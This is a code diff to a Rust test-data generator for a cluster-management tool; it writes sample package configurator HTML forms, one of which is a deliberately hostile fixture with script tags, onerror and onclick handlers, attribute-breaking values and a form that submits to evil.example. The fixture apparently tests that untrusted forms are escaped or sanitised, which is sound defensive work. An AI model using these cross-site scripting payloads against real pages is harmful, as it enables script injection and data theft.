@@ -22,7 +22,11 @@ pub fn make(database: &Path, logs: &Path) {
     let nodes = (1..=96).map(|it| format!("client:oscarnode{it:02}"));
     let others = ["server:head", "image:compute", "image:login"].map(str::to_owned);
     for (id, address) in (1..).zip(others.into_iter().chain(nodes)) {
-        let root = address.starts_with("image:").then(|| "/images".into());
+        let root = match address.split(':').next() {
+            Some("server") => Some(logs.with_file_name("head")),
+            Some("image") => Some("/images".into()),
+            _ => None,
+        };
         changes.push(Change::Target(Target {
             id: TargetId(id),
             address: address.parse().unwrap(),
@@ -63,10 +67,47 @@ pub fn make(database: &Path, logs: &Path) {
     set(&mut changes, 1, 5, Row { state: State::Running, attempts: 1, ..row(Finished, RunConfigurator) });
     set(&mut changes, 2, 1, row(ShouldNotBeInstalled, Finished));
     set(&mut changes, 2, 2, row(ShouldNotBeInstalled, ShouldNotBeInstalled));
+    set(&mut changes, 3, 1, row(Finished, Finished));
     set(&mut changes, 2, 5, row(InstallBinPkgs, InstallBinPkgs));
     store.commit(&changes).unwrap();
+    forms(&logs.with_file_name("head"));
     journal(&mut store, logs);
 }
+
+/// What the packages on the head node ask.
+fn forms(head: &Path) {
+    let write = |package: &str, file: &str, html: &str| {
+        let home = head.join("usr/lib/oscar/packages").join(package);
+        fs::create_dir_all(&home).unwrap();
+        fs::write(home.join(file), html).unwrap();
+    };
+    write("slurm", "configurator.html", EVERYTHING);
+    write(
+        "munge",
+        "configurator_image.html",
+        "<form>Key of @IMAGENAME@: <input name=key value=@IMAGENAME@></form>",
+    );
+    write("sis", "configurator.html", "<form><input name='no name'></form>");
+}
+
+/// A form with one of each.
+pub const EVERYTHING: &str = r#"<title>Slurm &lt;script>alert(1)&lt;/script></title>
+<h2 onclick="x">Where</h2><script>alert(2)</script><p>One line<br>&lt;img src=x onerror=alert(3)></p>
+<form action="http://evil.example/">
+Server: <input name="server" maxlength="8" required>
+<input type="checkbox" name="compute" value="YES" checked>Compute on the head node</input><br>
+<input type="checkbox" name="parts" value="a" checked>Part A</input> <input type="checkbox" name="parts" value="b">Part B</input><br>
+<input type="radio" name="level" value="1">quiet</input> <input type="radio" name="level" value="2" checked>loud</input><br>
+Kind: <select name="kind"><option value="a&quot;>">Kind A<option value="b" selected>Kind B</select><br>
+Several: <select name="several" multiple><option selected>x<option>y</select><br>
+Text: <textarea name="text" required>
+
+&lt;/textarea>two</textarea><br>
+Password: <input type="password" name="word" value="preset"><br>
+Fixed: <input name="fixed" value="as it is" readonly><br>
+Twice: <input name="twice" value="1"><input name="twice" value="2">
+<input type="hidden" name="form" value="hidden"><input type="submit" onclick="alert(4)">
+</form>"#;
 
 fn set(changes: &mut Vec<Change>, target: i64, package: i64, row: Row) {
     let key = Key { target: TargetId(target), package: PackageId(package) };
